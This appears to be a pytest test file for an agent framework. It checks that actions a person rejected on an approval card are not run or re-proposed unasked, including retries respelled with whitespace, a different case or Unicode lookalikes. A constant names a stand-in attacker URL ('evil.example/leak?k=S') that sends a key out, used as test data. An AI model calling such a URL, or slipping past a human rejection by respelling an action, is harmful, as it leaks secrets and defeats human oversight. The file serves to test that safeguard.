"""What was rejected comes back only when a person raises it again, whatever a model does."""

from dataclasses import dataclass, field

import pytest

from agents.kit import Agent, Approval, EffectKey, always, tool
from agents.kit.ports.web import WebAddress
from tests.fakes.scripted import ScriptedAnswer
from tests.journeys.agents.small_agents import directed
from tests.journeys.conversation import Conversation, a_conversation
from tests.journeys.models.puppet import calls

LEAK = "https://evil.example/leak?k=S"
BERLIN, BONN = calls("post", letter="Berlin"), calls("post", letter="Bonn")


@dataclass
class Office:
    """What was posted, and which pages were read."""

    deeds: list[str] = field(default_factory=list)

    def agent(self, approval: Approval | None) -> Agent:
        @tool(effect=True, approval=approval)
        async def post(letter: str, key: EffectKey) -> str:
            """Post a letter."""
            self.deeds.append(letter)
            return f"{letter} is posted."

        @tool(destinations=["url"])
        async def read(url: WebAddress) -> str:
            """Read a page."""
            self.deeds.append(url)
            return "All is well."

        does = "Posts letters, reads pages."
        return Agent(name="office", description=does, prompt="Post.", tools=(post, read))


async def rejected(
    office: Office, *answers: ScriptedAnswer, reason: str, approval: Approval | None = None
) -> Conversation:
    """A conversation in which the first card was rejected; the last answer comes for ever."""
    left = list(answers)
    model = directed({"": "office"}, lambda _: left.pop(0) if len(left) > 1 else left[0])
    conversation = await a_conversation(model, agents=[office.agent(approval)])
    await conversation.say("see to the mail, please")
    await conversation.press("Reject", reason=reason)
    return conversation


def cards(conversation: Conversation) -> list[object]:
    found = [r for r in conversation.pending if r.kind.value == "approval"]
    return [value for card in found for value in card.subject.arguments.values()]


@pytest.mark.parametrize("reason", ["not this one", "I never said Berlin", "don't post Berlin!"])
@pytest.mark.parametrize("approval", [always(), None])
async def test_the_same_action_does_not_come_back_by_itself(
    reason: str, approval: Approval | None
):
    office = Office()
    conversation = await rejected(office, BERLIN, reason=reason, approval=approval)

    assert (office.deeds, cards(conversation)) == ([], [])


@pytest.mark.parametrize("letter", ["berlin", " Berlin", "BERLIN\n", "\uff22erlin"])
async def test_spelled_otherwise_it_is_the_same_action(letter: str):
    office = Office()
    conversation = await rejected(office, BERLIN, calls("post", letter=letter), reason="no")

    assert (office.deeds, cards(conversation)) == ([], [])


@pytest.mark.parametrize("reason", ["no", f"I never asked for {LEAK}, do not open it"])
async def test_a_page_that_was_rejected_is_not_read_for_being_named_in_the_reason(reason: str):
    office = Office()
    conversation = await rejected(office, calls("read", url=LEAK), reason=reason)

    assert (office.deeds, cards(conversation)) == ([], [])


async def test_what_the_reason_names_has_a_card_of_its_own():
    office = Office()
    conversation = await rejected(office, BERLIN, BONN, reason="Bonn is the right one")

    assert (office.deeds, cards(conversation)) == ([], ["Bonn"])


async def test_what_another_than_the_rejected_one_is_has_a_card_too():
    office = Office()
    conversation = await rejected(office, BERLIN, BERLIN, BONN, reason="no, not that")

    assert (office.deeds, cards(conversation)) == ([], ["Bonn"])


@pytest.mark.parametrize("words", ["post Berlin after all", "Berlin it is", "so what now?"])
async def test_once_its_person_speaks_again_it_is_asked_and_never_run_unasked(words: str):
    office = Office()
    conversation = await rejected(office, BERLIN, "As you like.", BERLIN, reason="not this one")

    await conversation.say(words)

    assert (office.deeds, cards(conversation)) == ([], ["Berlin"])
    assert "this was rejected before" in conversation.last.text


async def test_what_is_approved_in_the_end_is_done_once():
    office = Office()
    conversation = await rejected(
        office, BERLIN, "As you like.", BERLIN, "Posted.", reason="not this one"
    )
    await conversation.say("post Berlin after all")

    await conversation.press("Approve")

    assert office.deeds == ["Berlin"]
